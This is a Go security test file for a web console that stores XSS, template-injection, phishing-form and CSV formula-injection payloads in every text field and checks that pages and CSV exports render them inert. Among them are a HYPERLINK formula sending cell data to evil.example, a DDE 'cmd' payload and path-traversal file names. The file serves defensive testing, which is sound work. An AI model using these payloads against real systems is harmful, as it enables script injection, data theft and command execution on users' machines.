package console_test

import (
	"encoding/csv"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"airside/internal/base/id"
)

// payloads are texts that want to be more than text. Each carries a mark by which a script that ran, or an element that
// came of it, is known.
var payloads = []string{
	`<script>window.__pwned=1</script>`,
	`"><img src=x onerror=window.__pwned=2 data-pwned>`,
	`'><svg/onload=window.__pwned=3 data-pwned>`,
	`</title><script data-pwned>window.__pwned=4</script>`,
	`</textarea></select></pre></code><b data-pwned>x</b>`,
	`" autofocus onfocus=window.__pwned=5 data-pwned x="`,
	"` onmouseover=window.__pwned=6 data-pwned `",
	`{{.Session}}{{template "part" .}}${window.__pwned=7}<%= 1 %>`,
	`javascript:window.__pwned=8//`,
	`--><script data-pwned>window.__pwned=9</script><!--`,
	`]]><x data-pwned>`,
	`<a href="javascript:window.__pwned=10" data-pwned>x</a>`,
	`<base href="https://evil.example/" data-pwned><meta http-equiv=refresh content="0;url=https://evil.example/" data-pwned>`,
	`<form action="https://evil.example/" data-pwned><input name=password></form>`,
	`<div hx-get="/signout" hx-trigger="load" data-pwned></div>`,
	"\u202e<script>window.__pwned=11</script>\u2066",
	`&lt;script&gt;window.__pwned=12&lt;/script&gt;`,
	`=HYPERLINK("https://evil.example/?"&A1,"x")`,
	`+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1)`,
	`%3Cscript%3Ewindow.__pwned=13%3C/script%3E`,
}

// payload is the nth of them, told apart from the others by a tag, and no longer than max.
func payload(n, max int) string {
	p := []rune(payloads[n%len(payloads)])
	return string(p[:min(len(p), max)])
}

// TestStoredScripts stores every payload in every field that takes text, and looks at all pages that show one.
func TestStoredScripts(t *testing.T) {
	browserAt(t)
	w := start(t)
	s := w.school("hostile")
	hostile := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		w.Header().Set("X-Hostile", payloads[1])
		w.Header().Set("Location", "javascript:alert(1)")
		w.WriteHeader(500)
		w.Write([]byte(strings.Join(payloads, "\n")))
	}))
	t.Cleanup(hostile.Close)
	pages := storePayloads(t, w, s, hostile.URL)

	// Spreadsheets must take nothing for a formula.
	for _, path := range []string{"flights", "people", "fleet", "settings/members", "settings/integrations/api-keys", "settings/integrations/webhooks",
		"settings/integrations/deliveries", "settings/integrations/recoveries", "settings/integrations/events", "settings/security/audit", "settings/security/oauth-clients", "settings/developers/tokens", "imports", "imports/mappings", "settings/licences/issued", "settings/licences/products",
		"settings/licences/batches", "settings/licences/vendor-tokens", "settings/licences/export"} {
		checkCSV(t, path, s.owner.get("/o/hostile/"+path+"?format=csv"))
	}
	w.story(t, "hostile", 6*time.Minute, obj{"email": s.owner.email, "org": "/o/hostile", "pages": pages, "payloads": payloads, "agent": payloads[1]})
}

// storePayloads stores them, and returns the pages of single records that show them. What the verbs refuse is as good.
func storePayloads(t testing.TB, w *world, s school, receiver string) []string {
	t.Helper()
	var pages []string
	stored := map[string]int{}
	store := func(noun, page string, body obj) string {
		a, err := s.Manage.Try(t.Context(), "POST", manage+"/"+noun, body)
		if err != nil || a.Status >= 500 {
			t.Fatalf("%s: %d %v %s", noun, a.Status, err, a.Body)
		}
		if a.Status != 201 {
			return ""
		}
		stored[noun]++
		var made struct{ ID string }
		a.Data(t, &made)
		if page != "" {
			pages = append(pages, "/o/hostile/"+page+"/"+made.ID)
		}
		return made.ID
	}
	h := newHangar(t, s, receiver)
	for n := range payloads {
		p := func(max int) string { return payload(n, max) }
		person := store("people", "people", obj{"display_name": p(100), "given_name": p(100), "family_name": p(100), "member_no": fmt.Sprint(n) + p(40), "external_ref": fmt.Sprint(n) + p(90), "roles": []string{"pilot"}, "home_base": p(64)})
		store("aircraft", "fleet", obj{"registration": fmt.Sprintf("HB-%03d", n), "manufacturer": p(100), "model": p(100), "serial_no": p(50), "external_ref": fmt.Sprint(n) + p(90)})
		store("aircraft", "fleet", obj{"registration": p(20), "class": "SEP"})
		off := time.Now().UTC().AddDate(0, -2, 0).Truncate(time.Hour).Add(time.Duration(n) * 3 * time.Hour)
		crew := h.pilot
		if person != "" {
			crew = person
		}
		flight := obj{"aircraft_id": h.aircraft, "kind": "private", "flight_rules": "VFR", "off_block_at": off, "on_block_at": off.Add(time.Hour), "logged_min": 60,
			"crew": []obj{{"person_id": crew, "function": "pic", "pic_min": 60}}, "remarks": strings.Join(payloads, "\n"), "external_ref": fmt.Sprint(n) + p(90), "departure": p(64), "arrival": p(64)}
		f := store("flights", "flights", flight)
		if f == "" {
			flight["departure"], flight["arrival"] = "LSZB", "LSZG"
			f = store("flights", "flights", flight)
		}
		if n < 4 && f != "" {
			s.Manage.Try(t.Context(), "POST", manage+"/flights/"+f+"/submit", nil)
			s.Manage.Try(t.Context(), "POST", manage+"/flights/"+f+"/reject", obj{"code": "other", "note": strings.Join(payloads, "\n")})
		}
		store("api-keys", "settings/integrations/api-keys", obj{"name": p(100), "scopes": []string{"public.fleet:read"}})
		store("oauth-clients", "settings/security/oauth-clients", obj{"name": p(100), "kind": "public", "redirect_uris": []string{"https://app.example/cb"}, "grant_types": []string{"authorization_code"}, "scopes": []string{"flights:read"}})
		store("licences", "settings/licences/issued", obj{"email": strings.ReplaceAll(fmt.Sprintf("%s%d@hostile.example", "x", n), " ", ""), "product": "Deck", "edition": "Pro", "note": p(200)})
		store("licence-batches", "settings/licences/batches", obj{"name": p(100), "csv": "email,product,edition,note\ny@hostile.example,Deck,Pro,x\n"})
		if n < 2 {
			store("licence-tokens", "settings/licences/vendor-tokens", obj{"role": "client", "name": p(100)})
		}
		if product := store("licence-products", "settings/licences/products", obj{"code": fmt.Sprint("Deck", n), "name": p(100)}); product != "" {
			store("licence-editions", "settings/licences/editions", obj{"product_id": product, "code": "Pro", "name": p(100)})
		}
		store("management-tokens", "settings/developers/tokens", obj{"name": p(100)})
		store("members", "settings/members", obj{"email": fmt.Sprintf("m%d@hostile.example", n), "display_name": p(100), "role": "member"})
		if m := store("import-mappings", "", obj{"name": fmt.Sprint(n, p(90)), "mapping": obj{"columns": []obj{{"column": "Date", "field": "date"}, {"column": "Total", "field": "total"}, {"column": p(200), "field": "remarks"}}}}); m != "" {
			pages = append(pages, "/o/hostile/imports/mappings/"+m+"/rename", "/o/hostile/imports/mappings/"+m+"/delete")
		}
		if n < 4 {
			endpoint := store("webhook-endpoints", "settings/integrations/webhooks", obj{"url": receiver + "/?" + strings.NewReplacer(" ", "", "`", "").Replace(p(80)), "description": p(500)})
			if endpoint == "" {
				endpoint = store("webhook-endpoints", "settings/integrations/webhooks", obj{"url": receiver + "/", "description": p(500)})
			}
			store("webhook-endpoints", "settings/integrations/webhooks", obj{"url": receiver + "/", "description": p(500), "filter": obj{"data.reason.note": []string{p(500), "x"}}})
			var d struct{ ID string }
			s.Manage.Call(t, 202, "POST", manage+"/webhook-endpoints/"+endpoint+"/ping", nil).Data(t, &d)
			pages = append(pages, "/o/hostile/settings/integrations/deliveries/"+d.ID)
		}
	}
	for _, noun := range []string{"people", "flights", "api-keys", "oauth-clients", "management-tokens", "members", "webhook-endpoints", "import-mappings", "licences", "licence-batches", "licence-tokens", "licence-products", "licence-editions"} {
		if stored[noun] == 0 {
			t.Errorf("no payload could be stored among the %s, so nothing is shown of it", noun)
		}
	}
	t.Logf("stored: %v", stored)

	// Imported logbooks: their names, their headers, their cells. Some become flights.
	imported := 0
	for n, p := range payloads {
		quoted := `"` + strings.ReplaceAll(p, `"`, `""`) + `"`
		csv := "Date,Aircraft," + quoted + ",From,To,Total,Pilot,Remarks\n2026-05-03,HB-KGA," + quoted + ",LSZB,LSZG,1:00," + quoted + "," + quoted + "\n" +
			quoted + "," + quoted + ",,,,," + quoted + "," + quoted + "\n"
		a := s.owner.upload("/o/hostile/imports/new", p+".csv", csv, "how", "columns")
		to := strings.TrimSuffix(strings.SplitN(a.Header.Get("Location"), "?", 2)[0], "/columns")
		if a.Status != 303 || !strings.HasPrefix(to, "/o/hostile/imports/") {
			t.Errorf("upload %d: %d\n%.2000s", n, a.Status, a.Body)
			continue
		}
		imported++
		pages = append(pages, to, to+"/columns", to+"/names", to+"/findings")
		if n < 5 {
			if a := s.owner.post(to+"/commit", "as", "submitted"); a.Status != 303 {
				t.Logf("%q is not imported: %d", p, a.Status)
			}
		}
	}
	if imported == 0 {
		t.Error("no logbook was imported")
	}
	for n, name := range []string{"\xff\xfe.csv", "..\\..\\evil.csv", "../../evil.csv", strings.Repeat("x", 5000) + ".csv", "a\x00b.csv", ""} {
		if a := s.owner.upload("/o/hostile/imports/new", name, "Date,Total\n2026-05-03,1:00\n", "how", "columns"); a.Status >= 500 {
			t.Errorf("a file with odd name %d: %d", n, a.Status)
		}
	}
	// Who signs in with such a browser.
	for _, p := range payloads {
		w.stranger().with("User-Agent", strings.ToValidUTF8(strings.Map(ascii, p), "")).signIn(s.owner.email, password)
	}
	// The name of the organization comes last: every page shows it.
	name := payload(1, 100) + id.New()[30:]
	s.Manage.Call(t, 200, "PATCH", manage+"/organization", obj{"name": name})
	return pages
}

// ascii keeps what a header may hold.
func ascii(r rune) rune {
	if r < ' ' || r > '~' {
		return -1
	}
	return r
}

// checkCSV looks for cells that a spreadsheet would compute.
func checkCSV(t testing.TB, what string, a page) {
	t.Helper()
	if a.Status != 200 || !strings.HasPrefix(a.Header.Get("Content-Type"), "text/csv") || !strings.HasPrefix(a.Header.Get("Content-Disposition"), "attachment") {
		t.Errorf("%s as CSV: %d %v", what, a.Status, a.Header)
		return
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(a.Body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Errorf("%s as CSV: %v", what, err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s as CSV has the formula %q", what, cell)
			}
		}
	}
}
